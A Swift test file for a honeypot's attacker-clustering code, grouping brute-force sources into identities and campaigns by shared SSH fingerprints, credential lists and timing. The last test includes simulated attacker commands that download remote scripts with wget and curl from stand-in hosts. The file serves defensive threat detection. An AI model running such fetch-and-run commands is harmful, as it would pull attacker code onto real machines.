import DecnetCore
import Foundation
import Testing

@testable import DecnetIntel

/// Identities and campaigns on the evidence our services record for each kind of actor: who is grouped, with
/// which reasons, and — the negative controls — who is not. Evidence is made from event streams through the
/// profiler, as the worker makes it.
@Suite struct IdentityClusteringTests {
    static let start = Date(timeIntervalSince1970: 1_795_000_000)
    /// hydra's client (libssh 0.10.6), measured against a decky.
    static let hydra = ("SSH-2.0-libssh_0.10.6", "be31134219a24899a8a0c29c7797ba94")
    /// paramiko 2.12 (Debian 12), a different client, measured the same way.
    static let paramiko = ("SSH-2.0-paramiko_2.12.0", "a704be057881f0b1d623cd263e477a8b")
    static let stockOpenSSH = ("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6", "472b5de333ad665af5cbf10ff892c4df")
    static let wordlist = (1...12).map { "user\($0):Passw0rd\($0 * 7)" }

    static func event(
        _ ip: String,
        _ id: EventID,
        _ offset: TimeInterval,
        service: ServiceKind = "ssh",
        decky: String = "web01",
        session: String = "s1",
        port: Int = 22,
        _ fields: [(String, String)] = []
    ) -> HoneypotEvent {
        HoneypotEvent(
            time: Self.start.addingTimeInterval(offset),
            id: id,
            decky: decky,
            hostname: decky,
            service: service,
            session: session,
            source: Endpoint(ip: ip, port: 40_000),
            destination: Endpoint(ip: "10.77.0.11", port: port),
            fields: fields.map { EventField($0.0, $0.1) }
        )
    }

    /// One address working through `credentials` with a client, one attempt every `pace` seconds.
    static func stuffer(
        _ ip: String,
        client: (String, String)?,
        credentials: [String],
        pace: Double = 0.8,
        at offset: TimeInterval = 0
    ) -> [HoneypotEvent] {
        var events: [HoneypotEvent] = []
        if let client {
            events.append(
                Self.event(ip, .clientFingerprint, offset, [("client_version", client.0), ("hassh", client.1)])
            )
        }
        for (index, credential) in credentials.enumerated() {
            let parts = credential.split(separator: ":", maxSplits: 1).map(String.init)
            events.append(
                Self.event(
                    ip,
                    .loginFailed,
                    offset + 0.5 + Double(index) * pace,
                    session: "s\(index)",
                    [("username", parts[0]), ("password", parts[1])]
                )
            )
        }
        return events
    }

    static func evidence(_ ip: String, _ events: [HoneypotEvent], shift: TimeInterval = 0) -> ActorEvidence {
        let shifted = events.map { event in
            var event = event
            event.time = event.time.addingTimeInterval(shift)
            return event
        }
        return ActorEvidence(ip: ip, events: shifted, profile: AttackerProfiler.profile(shifted))
    }

    static let botnet: [ActorEvidence] = (1...20).map { index in
        let ip = "10.66.\(index).\(10 + index)"
        return Self.evidence(
            ip,
            Self.stuffer(ip, client: Self.hydra, credentials: Self.wordlist, pace: 0.8 + 0.01 * Double(index))
        )
    }

    static func uuids() -> () -> String {
        var next = 0
        return {
            next += 1
            return String(format: "00000000-0000-4000-8000-%012d", next)
        }
    }

    @Test func aBotnetWithOneListAndOneClientIsOneIdentity() throws {
        let (identities, changes) = IdentityClustering.cluster(
            Self.botnet,
            previous: [],
            now: Self.start,
            makeUUID: Self.uuids()
        )
        let active = identities.filter { $0.state == .active }
        try #require(active.count == 1)
        #expect(active[0].members.count == 20)
        #expect(active[0].members == Self.botnet.map(\.ip).sorted())
        #expect(active[0].behaviour == .credentialStuffer)
        let kinds = Set(active[0].reasons.map(\.kind))
        #expect(kinds.isSuperset(of: [.credentialList, .clientFingerprint]))
        #expect(active[0].links.allSatisfy { $0.score >= IdentityClustering.threshold })
        #expect(changes == [.formed(active[0].uuid, members: active[0].members)])
        // The reasons say what was shared.
        let fingerprint = try #require(active[0].reasons.first { $0.kind == .clientFingerprint })
        #expect(fingerprint.detail.contains(Self.hydra.1))
        let list = try #require(active[0].reasons.first { $0.kind == .credentialList })
        #expect(list.detail.contains("12 of 12 credentials shared"))
    }

    /// Negative control: the same word list from another client stays another identity.
    @Test func theSameListFromAnotherClientStaysApart() throws {
        let others = (1...5).map { index in
            let ip = "10.67.\(index).9"
            return Self.evidence(ip, Self.stuffer(ip, client: Self.paramiko, credentials: Self.wordlist))
        }
        let (identities, _) = IdentityClustering.cluster(
            Self.botnet + others,
            previous: [],
            now: Self.start,
            makeUUID: Self.uuids()
        )
        let active = identities.filter { $0.state == .active }.map { Set($0.members) }
        #expect(active.count == 2)
        #expect(active.contains(Set(Self.botnet.map(\.ip))))
        #expect(active.contains(Set(others.map(\.ip))))
        // The list alone links them, below the threshold.
        let link = try #require(IdentityClustering.link(Self.botnet[0], others[0]))
        #expect(link.score < IdentityClustering.threshold)
        #expect(link.reasons.contains { $0.kind == .credentialList })
    }

    /// Negative control: the fingerprint every stock OpenSSH client has links nothing, and one lone address from
    /// the other groups stays alone.
    @Test func aStockClientFingerprintMergesNothing() {
        let users = (1...10).map { index in
            let ip = "10.68.\(index).5"
            let credentials = (1...4).map { "person\(index):secret\(index)-\($0)" }
            return Self.evidence(ip, Self.stuffer(ip, client: Self.stockOpenSSH, credentials: credentials, pace: 1.0))
        }
        let (identities, changes) = IdentityClustering.cluster(users, previous: [], now: Self.start)
        #expect(identities.isEmpty)
        #expect(changes.isEmpty)
        #expect(IdentityClustering.link(users[0], users[1]).map { $0.score < IdentityClustering.threshold } ?? true)
        #expect(
            !(IdentityClustering.link(users[0], users[1])?.reasons.contains { $0.kind == .clientFingerprint } ?? false)
        )
    }

    /// A bridging address merges two identities; without it they are given back, each under its own uuid.
    @Test func removingTheBridgeUnmergesThem() throws {
        let listA = Self.wordlist
        let listB = (1...10).map { "admin\($0):Winter\($0)!" }
        let groupA = (1...3).map { index in
            let ip = "10.70.1.\(index)"
            return Self.evidence(ip, Self.stuffer(ip, client: Self.hydra, credentials: listA))
        }
        let groupB = (1...3).map { index in
            let ip = "10.70.2.\(index)"
            return Self.evidence(ip, Self.stuffer(ip, client: Self.paramiko, credentials: listB))
        }
        // The bridge ran both clients through both lists.
        let bridgeEvents =
            Self.stuffer("10.70.3.1", client: Self.hydra, credentials: listA)
            + Self.stuffer("10.70.3.1", client: Self.paramiko, credentials: listB, at: 100)
        let bridge = Self.evidence("10.70.3.1", bridgeEvents)
        let makeUUID = Self.uuids()
        let first = IdentityClustering.cluster(groupA + groupB, previous: [], now: Self.start, makeUUID: makeUUID)
        let a = try #require(first.identities.first { $0.members.contains("10.70.1.1") })
        let b = try #require(first.identities.first { $0.members.contains("10.70.2.1") })
        #expect(a.uuid != b.uuid)

        let second = IdentityClustering.cluster(
            groupA + groupB + [bridge],
            previous: first.identities,
            now: Self.start.addingTimeInterval(60),
            makeUUID: makeUUID
        )
        #expect(second.changes == [.merged(into: a.uuid, from: [b.uuid])])
        let merged = second.identities.filter { $0.state == .active }
        #expect(merged.count == 1)
        #expect(merged.first?.members.count == 7)
        #expect(second.identities.first { $0.uuid == b.uuid }?.mergedInto == a.uuid)

        let third = IdentityClustering.cluster(
            groupA + groupB,
            previous: second.identities,
            now: Self.start.addingTimeInterval(120),
            makeUUID: makeUUID
        )
        #expect(third.changes == [.unmerged(b.uuid, from: a.uuid)])
        let active = third.identities.filter { $0.state == .active }
        #expect(Set(active.map(\.uuid)) == [a.uuid, b.uuid])
        #expect(active.first { $0.uuid == a.uuid }?.members == groupA.map(\.ip).sorted())
        #expect(active.first { $0.uuid == b.uuid }?.members == groupB.map(\.ip).sorted())
    }

    /// The operator's decisions hold over the evidence: a split keeps apart what links, a merge joins what does
    /// not, and a later split undoes an earlier merge.
    @Test func operatorDecisionsHold() throws {
        let makeUUID = Self.uuids()
        let botnet = Array(Self.botnet.prefix(6))
        let split = IdentityOverride(
            uuid: "split-1",
            action: .split,
            first: botnet.prefix(2).map(\.ip),
            second: botnet.dropFirst(2).map(\.ip),
            by: "admin",
            time: Self.start
        )
        let apart = IdentityClustering.cluster(
            botnet,
            previous: [],
            overrides: [split],
            now: Self.start,
            makeUUID: makeUUID
        )
        let groups: Set<Set<String>> = Set(apart.identities.map { Set($0.members) })
        let expected: Set<Set<String>> = [Set(botnet.prefix(2).map(\.ip)), Set(botnet.dropFirst(2).map(\.ip))]
        #expect(groups == expected)

        let loner = Self.evidence(
            "10.69.0.1",
            Self.stuffer("10.69.0.1", client: Self.paramiko, credentials: ["a:b", "c:d", "e:f"])
        )
        let merge = IdentityOverride(
            uuid: "merge-1",
            action: .merge,
            first: botnet.map(\.ip),
            second: [loner.ip],
            by: "admin",
            time: Self.start.addingTimeInterval(10)
        )
        let joined = IdentityClustering.cluster(botnet + [loner], previous: [], overrides: [merge], now: Self.start)
        let identity = try #require(joined.identities.first)
        #expect(identity.members.contains(loner.ip))
        #expect(identity.reasons.contains { $0.kind == .operator && $0.detail == "merged by admin" })

        let undo = IdentityOverride(
            uuid: "split-2",
            action: .split,
            first: [loner.ip],
            second: botnet.map(\.ip),
            by: "admin",
            time: Self.start.addingTimeInterval(20)
        )
        let undone = IdentityClustering.cluster(
            botnet + [loner],
            previous: [],
            overrides: [merge, undo],
            now: Self.start
        )
        #expect(!undone.identities.contains { $0.members.contains(loner.ip) })
    }

    /// Shifting every timestamp by the same amount changes no group and no link.
    @Test func clusteringIgnoresAShiftOfEveryTimestamp() {
        func run(_ shift: TimeInterval) -> [[String]: [ActorLink]] {
            let evidence = (1...8).map { index in
                let ip = "10.71.0.\(index)"
                let client = index <= 5 ? Self.hydra : Self.paramiko
                return Self.evidence(
                    ip,
                    Self.stuffer(ip, client: client, credentials: Self.wordlist, at: Double(index) * 30),
                    shift: shift
                )
            }
            return Dictionary(
                IdentityClustering.groups(evidence).map {
                    ($0.members, $0.links.sorted { ($0.a, $0.b) < ($1.a, $1.b) })
                },
                uniquingKeysWith: { first, _ in first }
            )
        }
        let base = run(0)
        #expect(!base.isEmpty)
        #expect(run(86_400 * 37 + 0.25) == base)
        #expect(run(-3_600 * 5) == base)
    }

    /// A scanner shares nothing with a botnet that brute-forces the same deckies.
    @Test func aScannerJoinsNoIdentity() {
        let scanner = Self.evidence(
            "10.72.0.1",
            (0..<40).map { port in
                Self.event("10.72.0.1", .connectionOpen, Double(port) * 0.05, session: "p\(port)")
            } + [
                Self.event("10.72.0.1", .scanDetected, 3, service: "sniffer", [("scan_type", "syn"), ("tool", "nmap")])
            ]
        )
        let (identities, _) = IdentityClustering.cluster(Self.botnet + [scanner], previous: [], now: Self.start)
        #expect(identities.count == 1)
        #expect(!identities[0].members.contains(scanner.ip))
    }

    /// A trait hundreds share costs a bounded number of comparisons, and a large botnet still chains into one
    /// identity: 400 bots with one list and one client, beside 400 people who all ran `uname -a`.
    @Test func largeBlocksStayBoundedAndStillChain() {
        let bots = (0..<400).map { index in
            let ip = "10.90.\(index / 200).\(index % 200 + 1)"
            return Self.evidence(ip, Self.stuffer(ip, client: Self.hydra, credentials: Self.wordlist))
        }
        let people = (0..<400).map { index in
            let ip = "10.91.\(index / 200).\(index % 200 + 1)"
            return ActorEvidence(
                ip: ip,
                first: Self.start,
                last: Self.start,
                commands: ["uname -a", "id", "w"],
                automated: false,
                behaviour: .interactive
            )
        }
        let all = bots + people
        let pairs = IdentityClustering.candidates(
            all.map(IdentityClustering.traits),
            order: all.map(IdentityClustering.signature)
        )
        // Every shared trait is a block of 400: each item meets its 8 neighbours in it, not all 399.
        #expect(pairs.count <= 800 * IdentityClustering.window)
        let groups = IdentityClustering.groups(all)
        #expect(groups.count == 1)
        #expect(
            groups.first?.members.count == 400 && groups.first?.members.allSatisfy { $0.hasPrefix("10.90.") } == true
        )
    }

    // MARK: - Campaigns

    /// Two groups from different addresses a day apart, sharing credentials and pace, are one campaign; the same
    /// groups a month apart are not.
    @Test func sharedCredentialsAndPaceADayApartAreOneCampaign() throws {
        func scenario(_ prefix: String, client: (String, String), at offset: TimeInterval) -> [ActorEvidence] {
            (1...3).map { index in
                let ip = "\(prefix).\(index)"
                return Self.evidence(
                    ip,
                    Self.stuffer(ip, client: client, credentials: Self.wordlist, at: offset + Double(index))
                )
            }
        }
        let monday = scenario("10.73.1", client: Self.hydra, at: 0)
        let tuesday = scenario("10.73.2", client: Self.paramiko, at: 86_400)
        let (identities, _) = IdentityClustering.cluster(monday + tuesday, previous: [], now: Self.start)
        #expect(identities.count == 2)
        let actors = CampaignClustering.actors(monday + tuesday, identities: identities)
        #expect(actors.count == 2)
        let (campaigns, changes) = CampaignClustering.cluster(
            actors,
            previous: [],
            now: Self.start,
            makeUUID: Self.uuids()
        )
        try #require(campaigns.count == 1)
        #expect(Set(campaigns[0].actors) == Set(identities.map(\.uuid)))
        #expect(campaigns[0].attackers.count == 6)
        #expect(Set(campaigns[0].reasons.map(\.kind)).isSuperset(of: [.credentials, .pace]))
        #expect(changes.map(\.subject) == ["campaign.formed"])

        let nextMonth = scenario("10.73.2", client: Self.paramiko, at: 86_400 * 30)
        let apart = IdentityClustering.cluster(monday + nextMonth, previous: [], now: Self.start)
        let none = CampaignClustering.cluster(
            CampaignClustering.actors(monday + nextMonth, identities: apart.identities),
            previous: [],
            now: Self.start
        )
        #expect(none.campaigns.isEmpty)
    }

    /// A campaign keeps its uuid as actors join, and two campaigns an actor links fold into the older.
    @Test func campaignsAreStableAndMerge() throws {
        let makeUUID = Self.uuids()
        let listB = (1...10).map { "admin\($0):Winter\($0)!" }
        func lone(_ ip: String, _ list: [String], at offset: TimeInterval) -> ActorEvidence {
            Self.evidence(ip, Self.stuffer(ip, client: nil, credentials: list, at: offset))
        }
        let a = [lone("10.74.0.1", Self.wordlist, at: 0), lone("10.74.0.2", Self.wordlist, at: 50)]
        let b = [lone("10.74.1.1", listB, at: 0), lone("10.74.1.2", listB, at: 70)]
        let first = CampaignClustering.cluster(
            CampaignClustering.actors(a + b, identities: []),
            previous: [],
            now: Self.start,
            makeUUID: makeUUID
        )
        #expect(first.campaigns.count == 2)
        let bridge = lone("10.74.2.1", Self.wordlist + listB, at: 100)
        let second = CampaignClustering.cluster(
            CampaignClustering.actors(a + b + [bridge], identities: []),
            previous: first.campaigns,
            now: Self.start.addingTimeInterval(10),
            makeUUID: makeUUID
        )
        let older = try #require(first.campaigns.first)
        #expect(second.changes == [.merged(into: older.uuid, from: [first.campaigns[1].uuid])])
        #expect(second.campaigns.filter { $0.state == .active }.map(\.attackers.count) == [5])
    }

    // MARK: - Evidence

    @Test func evidenceKeepsTheActorsTraits() {
        let ip = "203.0.113.40"
        let events =
            Self.stuffer(ip, client: Self.hydra, credentials: ["root:root", "root:root", "admin:1234"])
            + [
                Self.event(
                    ip,
                    .commandInput,
                    20,
                    [("command", "wget"), ("args", "-q http://198.51.100.9:8080/x.sh -O-")]
                ),
                Self.event(
                    ip,
                    .commandInput,
                    21,
                    [("command", "curl"), ("args", "-fsSL https://User@Evil.Example/a")]
                ),
            ]
        let evidence = Self.evidence(ip, events)
        #expect(evidence.credentials == ["root:root", "admin:1234"])
        #expect(evidence.fingerprints == ["hassh:" + Self.hydra.1])
        #expect(evidence.clients == [Self.hydra.0])
        #expect(evidence.payloadHosts == ["198.51.100.9", "evil.example"])
        // A documentation address is not public: no network to share.
        #expect(evidence.network == nil)
        #expect(ActorEvidence.network(of: "10.1.2.3") == nil)
        #expect(ActorEvidence.network(of: "8.8.4.4") == "8.8.4.0/24")
        #expect(ActorEvidence.network(of: "2606:4700:4700::1111") == "2606:4700:4700::/48")
        #expect(ActorEvidence.payloadHost("ls -la") == nil)
        #expect(ActorEvidence.payloadHost("wget") == nil)
    }
}
